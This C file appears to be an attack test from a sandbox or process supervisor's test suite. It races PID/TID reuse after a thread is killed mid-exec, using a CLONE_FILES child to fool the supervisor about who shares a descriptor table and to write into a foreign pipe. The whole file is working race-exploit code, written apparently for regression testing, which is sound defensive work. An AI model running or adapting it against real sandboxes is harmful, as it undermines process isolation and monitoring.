/* A thread calls exec and is killed before the supervisor's look at it: nobody reports its number again. When the number comes back, as
 * that of a child that shares a table, it must not be taken for the dead one. It comes back soon where numbers are few (test_special_starts.py).
 */
#include "../attack.h"

enum { NUMBER = 40, BUSY = 4 };

struct shared {
    volatile int go, thread, any;
};

static struct shared *s;
static int p[2], null;

static void keep_busy(void)
{
    size_t size = (size_t)fewer(6 << 10) << 10;
    char *zeros = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int own[2];
    end_with_maker();
    pipe2(own, O_NONBLOCK);
    for (;;)
        write(own[1], zeros, size);
}

static int flip(void *unused)
{
    end_with_maker();
    if (!s->any && syscall(SYS_gettid) != s->thread)
        return 0;
    for (;;) {
        dup2(p[1], NUMBER);
        dup2(null, NUMBER);
    }
    return unused != NULL;
}

static void *execing(void *self)
{
    s->thread = syscall(SYS_gettid);
    while (!s->go)
        sched_yield();
    execl("/proc/self/exe", self, "x", NULL);
    return NULL;
}

static int few_numbers(void)
{
    char text[20] = "";
    int fd = open("/proc/sys/kernel/pid_max", O_RDONLY);
    read(fd, text, sizeof text - 1);
    close(fd);
    return atoi(text) < 1000;
}

int main(int count, char **words)
{
    static char stack[16384];
    double until = tries_until(few_numbers() ? 6 : 1.5);
    pid_t pid, busy[BUSY];
    int won = 0;
    if (count > 1)
        return 0;
    s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    s->any = !few_numbers();
    pipe2(p, O_NONBLOCK);
    null = open("/dev/full", O_WRONLY);
    dup2(null, NUMBER);
    write(p[1], "A", 1);
    while (now() < until && !won) {
        s->go = s->thread = 0;
        if (!(pid = fork())) {
            pthread_t t;
            end_with_maker();
            pthread_create(&t, NULL, execing, words[0]);
            pause();
        }
        while (!s->thread)
            usleep(100);
        for (int i = 0; i < BUSY; i++)
            if (!(busy[i] = fork()))
                keep_busy();
        usleep(5000);
        s->go = 1;
        usleep(500 + rand() % 60000);
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
        for (int i = 0; i < BUSY; i++)
            kill(busy[i], SIGKILL), waitpid(busy[i], NULL, 0);
        for (int i = 0; i < 900; i++) {
            pid = clone(flip, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
            if (s->any || pid == s->thread)
                break;
            waitpid(pid, NULL, 0);
        }
        usleep(1000);
        for (int i = fewer(3000); i > 0 && !won; i--) {
            write(NUMBER, "B", 1);
            won = foreign(p[0], 'A');
        }
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    }
    end(won, "the table's users were known");
}
